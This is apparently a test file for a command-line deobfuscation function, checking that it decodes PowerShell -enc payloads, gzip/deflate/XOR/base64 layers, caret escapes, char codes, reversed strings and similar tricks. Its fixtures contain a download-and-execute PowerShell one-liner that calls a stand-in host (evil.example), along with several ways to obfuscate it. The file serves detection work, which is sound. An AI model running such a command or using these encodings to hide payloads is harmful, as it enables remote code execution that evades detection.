import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeCommandLine } from '../../../shared/decode/command-line.ts';

const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
const base64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const hiddenIn = (line: string) => decodeCommandLine(line).map(({ layers, text }) => [layers.join(' > '), text]);

describe('decodeCommandLine', () => {
  it.each([
    ['-enc', `powershell -nop -w hidden -enc ${wide(script)}`, 'encoded-command', script],
    ['-e and a packed script', `powershell -e ${wide(`x('${base64(gzipSync(script))}')`)}`, 'encoded-command > base64 > gzip', script],
    ['an en dash and the whole word', `powershell \u2013EncodedCommand "${wide('whoami')}"`, 'encoded-command', 'whoami'],
    ['raw deflate', `iex([io.compression.deflatestream]::new([convert]::frombase64string('${base64(deflateRawSync(script))}'))`, 'base64 > deflate', script],
    ['carets', 'cmd /c p^o^w^e^r^s^h^e^l^l -c whoami', 'shell-escapes', 'cmd /c powershell -c whoami'],
    ['pieces of strings', `&('I'+'EX') ('http'+'://evil.example/x')`, 'joined-strings', `&('IEX') ('http://evil.example/x')`],
    ['the format operator', `& ("{1}{0}" -f 'X','IE') x`, 'joined-strings', '& ("IEX") x'],
    ['[char]', 'x [char]104+[char]116+[char]116+[char]112', 'char-codes', 'http'],
    ['fromCharCode', 'eval(String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108))', 'char-codes', 'http://evil'],
    ['hexadecimal digits', `x ${Buffer.from(script).toString('hex')}`, 'hex', script],
    ['a list of bytes', `[Byte[]] $b = ${Array.from(Buffer.from(script), (byte) => `0x${byte.toString(16)}`).join(',')}`, 'hex', script],
    ['one-byte XOR', `x ${base64(Buffer.from(Buffer.from(script).map((byte) => byte ^ 0x41)))}`, 'base64 > xor-0x41', script],
    ['percent escapes', 'curl http://a.example/%68%74%74%70', 'url', 'curl http://a.example/http'],
    ['entities', 'mshta &#106;avascript&colon;alert', 'html', 'mshta javascript:alert'],
    ['base32', 'x NBSWY3DPEB3W64TMMQQGC3TEEBWW64TF', 'base32', 'hello world and more'],
    ['a token', 'curl -H eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IiLCJpc3MiOiJ4In0.abc', 'jwt', '{"sub":"bob","iss":"x"}'],
    ['text backwards', "x '1sp.a/elpmaxe.live//:ptth'", 'reversed', "'http://evil.example/a.ps1' x"],
  ])('sees through %s', (_, line, layers, text) => expect(hiddenIn(line)).toContainEqual([layers, text]));

  it.each([
    'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule 3f2504e0-4f89-11d3-9a0c-0305e82c3301',
    'ls /usr/share/applications/something/withlong/path d41d8cd98f00b204e9800998ecf8427e',
    'git commit -m "1, 2, 3" --author=somebody',
    '',
  ])('finds nothing in %j', (line) => expect(hiddenIn(line)).toEqual([]));

  it('gives the same text once', () => {
    expect(hiddenIn(`powershell -enc ${wide(script)} ${wide(script)}`)).toHaveLength(1);
  });

  it('never fails', () => {
    const unit = fc.constantFrom(
      '-enc ',
      'eyJ',
      '.',
      "'+'",
      '[char]',
      '104',
      ',',
      '%41',
      '&#65;',
      '\\x41',
      '{0}',
      '-f',
      '"',
      "'",
      'H4sI',
      'UEsDB',
      'AAAA',
      '=',
      '\n',
      '^a',
      '/',
      '0x1,',
      '8',
      '\\u0041',
      'ü',
    );
    fc.assert(fc.property(fc.string({ unit, maxLength: 300 }), (line) => void expect(Array.isArray(decodeCommandLine(line))).toBe(true)));
  });
});
